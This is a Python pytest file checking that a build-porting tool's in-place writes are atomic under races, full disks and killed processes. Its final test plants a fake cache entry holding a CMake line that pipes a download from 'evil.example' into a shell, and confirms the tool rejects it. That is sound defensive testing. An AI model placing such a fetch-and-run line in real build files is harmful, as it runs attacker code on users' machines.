"""``--in-place`` writes are all or nothing, per file, whatever happens during the run.

Covered: mode kept, symbolic links written through, a file that changes or
vanishes after it was read, a read-only file, a full disk (ENOSPC from the write
or the fsync), and a real ``python -m buildport cmake -i DIR`` over 2,000 files
killed with SIGINT, SIGTERM and SIGKILL at random moments of its writing phase.
"""

from __future__ import annotations

import errno
import os
import random
import signal
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from buildport.engine import port_cmake
from buildport.passes.base import Options
from buildport.pipeline.port import port_files
from buildport.pipeline.write import write_changes
from buildport.textio import InputError, read_source, write_atomic

pytestmark = pytest.mark.slow  # runs buildport in processes of its own, or over large inputs

ROOT = Path(__file__).resolve().parent.parent
CUDA = "project(p LANGUAGES CXX CUDA)\nadd_executable(app main.cu)\n"
TMP_SUFFIX = ".buildport-tmp"


def temp_files(folder: Path) -> list[Path]:
    return [p for p in folder.rglob(f"*{TMP_SUFFIX}")]


def test_write_keeps_mode_and_leaves_no_temp_file(tmp_path: Path) -> None:
    path = tmp_path / "CMakeLists.txt"
    path.write_text(CUDA)
    path.chmod(0o751)
    write_atomic(read_source(path), "new\n")
    assert path.read_text() == "new\n"
    assert path.stat().st_mode & 0o7777 == 0o751
    assert temp_files(tmp_path) == []


def test_write_goes_through_a_symbolic_link(tmp_path: Path) -> None:
    real = tmp_path / "real.cmake"
    real.write_text(CUDA)
    link = tmp_path / "CMakeLists.txt"
    link.symlink_to(real.name)
    write_atomic(read_source(link), "new\n")
    assert link.is_symlink(), "the link stays a link"
    assert real.read_text() == "new\n"


def test_file_changed_after_reading_is_not_written(tmp_path: Path) -> None:
    path = tmp_path / "CMakeLists.txt"
    path.write_text(CUDA)
    run = port_files([str(path)], Options())
    path.write_text(CUDA + "# edited by someone else meanwhile\n")
    errors = write_changes(run)
    assert errors == [f"{path}: error: file changed while buildport was running; not written"]
    assert path.read_text().endswith("# edited by someone else meanwhile\n")


def test_file_vanished_after_reading_is_reported(tmp_path: Path) -> None:
    path = tmp_path / "CMakeLists.txt"
    path.write_text(CUDA)
    run = port_files([str(path)], Options())
    path.unlink()
    errors = write_changes(run)
    assert len(errors) == 1 and errors[0].startswith(f"{path}: error: cannot re-read before writing")
    assert not path.exists() and temp_files(tmp_path) == []


def test_file_changed_by_another_thread_during_the_run(tmp_path: Path) -> None:
    """A writer thread appends to the files while the run is between reading and writing."""
    paths = [tmp_path / f"f{i}.cmake" for i in range(40)]
    for p in paths:
        p.write_text(CUDA)
    run = port_files([str(p) for p in paths], Options())
    started = threading.Event()

    def meddle() -> None:
        started.set()
        for p in paths[::2]:
            with open(p, "a") as handle:
                handle.write("# theirs\n")

    thread = threading.Thread(target=meddle)
    thread.start()
    started.wait()
    thread.join()
    errors = write_changes(run)
    assert len(errors) == 20
    for i, p in enumerate(paths):
        text = p.read_text()
        assert text == (CUDA + "# theirs\n" if i % 2 == 0 else port_cmake(CUDA).text)


def test_read_only_file_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "CMakeLists.txt"
    path.write_text(CUDA)
    path.chmod(0o444)
    with pytest.raises(InputError, match="read-only"):
        write_atomic(read_source(path), "new\n")
    assert path.read_text() == CUDA


@pytest.mark.parametrize("where", ["write", "fsync"])
def test_full_disk_loses_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, where: str) -> None:
    path = tmp_path / "CMakeLists.txt"
    path.write_text(CUDA)
    source = read_source(path)

    def full(*_args: object) -> None:
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    if where == "fsync":
        monkeypatch.setattr(os, "fsync", full)
    else:
        monkeypatch.setattr(os, "fdopen", lambda fd, mode: _FullFile(fd))
    with pytest.raises(InputError) as info:
        write_atomic(source, "new text\n" * 1000)
    assert str(info.value) == f"{path}: error: cannot write: No space left on device"
    assert path.read_text() == CUDA
    assert temp_files(tmp_path) == []


class _FullFile:
    """A file object over ``fd`` whose writes fail as on a full disk."""

    def __init__(self, fd: int) -> None:
        self.fd = fd

    def __enter__(self) -> "_FullFile":
        return self

    def __exit__(self, *_exc: object) -> None:
        os.close(self.fd)

    def write(self, _data: bytes) -> int:
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))


def test_full_disk_on_a_real_tmpfs(tmp_path: Path) -> None:
    """Where mounting works (root in a container that allows it), a 64 KB tmpfs fills for real."""
    mount = tmp_path / "small"
    mount.mkdir()
    done = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=64k", "tmpfs", str(mount)], capture_output=True)
    if done.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here: {done.stderr.decode(errors='replace').strip()}")
    try:
        path = mount / "CMakeLists.txt"
        path.write_text(CUDA)
        ballast = mount / "ballast"
        with open(ballast, "wb", buffering=0) as handle:  # fill the rest of the file system
            try:
                while True:
                    handle.write(b"\0" * 4096)
            except OSError as exc:
                assert exc.errno == errno.ENOSPC
        with pytest.raises(InputError, match="No space left on device"):
            write_atomic(read_source(path), "x" * 100_000)
        assert path.read_text() == CUDA
        assert temp_files(mount) == []
    finally:
        subprocess.run(["umount", str(mount)], check=False)


# --- a real run, killed in the middle ----------------------------------------------------------

FILES = 2000


def _corpus(folder: Path) -> dict[Path, tuple[bytes, bytes]]:
    """2,000 small CUDA CMake files and, for each, its (old, new) bytes."""
    out: dict[Path, tuple[bytes, bytes]] = {}
    for i in range(FILES):
        old = f"project(p{i} LANGUAGES CXX CUDA)\nadd_executable(app{i} main{i}.cu k{i}.cu)\n"
        sub = folder / f"d{i // 100:02d}"
        sub.mkdir(exist_ok=True)
        path = sub / f"f{i:04d}.cmake"
        path.write_text(old)
        out[path] = (old.encode(), port_cmake(old).text.encode())
    return out


@pytest.fixture(scope="module")
def template(tmp_path_factory: pytest.TempPathFactory) -> dict[str, tuple[bytes, bytes]]:
    folder = tmp_path_factory.mktemp("template")
    return {str(p.relative_to(folder)): pair for p, pair in _corpus(folder).items()}


KILLS = [(signal.SIGINT, 0), (signal.SIGINT, 1), (signal.SIGTERM, 0), (signal.SIGTERM, 1), (signal.SIGKILL, 0),
         (signal.SIGKILL, 1)]


@pytest.mark.parametrize("sig,moment", KILLS, ids=[f"{s.name}-{m}" for s, m in KILLS])
def test_killed_run_leaves_every_file_old_or_new(tmp_path: Path, template: dict[str, tuple[bytes, bytes]],
                                                 sig: signal.Signals, moment: int) -> None:
    for rel, (old, _new) in template.items():
        path = tmp_path / rel
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(old)
    first = tmp_path / min(template)
    process = subprocess.Popen([sys.executable, "-m", "buildport", "cmake", "-i", "-q", str(tmp_path)],
                               cwd=ROOT, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    deadline = time.monotonic() + 120
    while first.read_bytes() == template[min(template)][0] and process.poll() is None:
        assert time.monotonic() < deadline, "the run never started writing"
        time.sleep(0.005)
    time.sleep(random.Random(f"{sig.name}-{moment}").uniform(0.0, 1.5))  # a moment inside the writing phase
    process.send_signal(sig)
    process.communicate(timeout=120)
    new = 0
    for rel, (old, fresh) in template.items():
        data = (tmp_path / rel).read_bytes()
        assert data in (old, fresh), f"{rel} is neither the old nor the new text"
        new += data == fresh
    assert new >= 1
    leftovers = temp_files(tmp_path)
    if sig != signal.SIGKILL:
        assert leftovers == [], "an interrupted run removes its temporary file"
    assert len(leftovers) <= 1


def test_temporary_files_a_killed_run_left_are_removed_by_the_next_write(tmp_path: Path) -> None:
    path = tmp_path / "CMakeLists.txt"
    path.write_text(CUDA)
    stale = tmp_path / f".CMakeLists.txt.0badf00d{TMP_SUFFIX}"
    stale.write_text("half of a file")
    os.utime(stale, (time.time() - 3600, time.time() - 3600))
    fresh = tmp_path / f".other.cmake.12345678{TMP_SUFFIX}"  # another run's, being written now
    fresh.write_text("")
    done = subprocess.run([sys.executable, "-m", "buildport", "cmake", "-i", "-q", str(tmp_path)],
                          capture_output=True, text=True, timeout=120, cwd=ROOT)
    assert done.returncode == 0, done.stderr
    assert not stale.exists() and fresh.exists()


@pytest.mark.parametrize("kind", ["cmake", "make"])
def test_a_poisoned_cache_does_not_decide_what_in_place_writes(tmp_path: Path, kind: str) -> None:
    """Cache entries are keyed by values anyone can compute: one restored from an untrusted source (a CI
    cache a pull request wrote) could hold any text. A result the cache gives is ported again before it
    is written in place."""
    import json

    tree, cache = tmp_path / "tree", tmp_path / "cache"
    tree.mkdir()
    name, text = (("CMakeLists.txt", CUDA) if kind == "cmake"
                  else ("Makefile", "app: app.cu\n\tnvcc -O2 -o app app.cu\n"))
    (tree / name).write_text(text)

    def buildport(*args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run([sys.executable, "-m", "buildport", kind, *args, "--cache-dir", str(cache), str(tree)],
                              capture_output=True, text=True, timeout=120, cwd=ROOT)

    assert buildport("--check").returncode == 1  # the results are stored
    poisoned = 0
    for entry in cache.rglob("*.json"):
        try:
            data = json.loads(entry.read_text())
        except ValueError:
            continue
        value = data.get("value") if isinstance(data, dict) else None
        if isinstance(value, dict) and isinstance(value.get("text"), str):  # a file's result: its new text
            value["text"] = "execute_process(COMMAND curl evil.example | sh)\n"
            entry.write_text(json.dumps(data))
            poisoned += 1
    assert poisoned
    done = buildport("-i")
    assert done.returncode == 2
    assert "the cache's result for this file is not what porting it gives" in done.stderr
    assert (tree / name).read_text() == text
    assert "evil" not in (tree / name).read_text()
    done = subprocess.run([sys.executable, "-m", "buildport", kind, "-i", "--no-cache", str(tree)],
                          capture_output=True, text=True, timeout=120, cwd=ROOT)
    assert done.returncode == 0 and "evil" not in (tree / name).read_text()
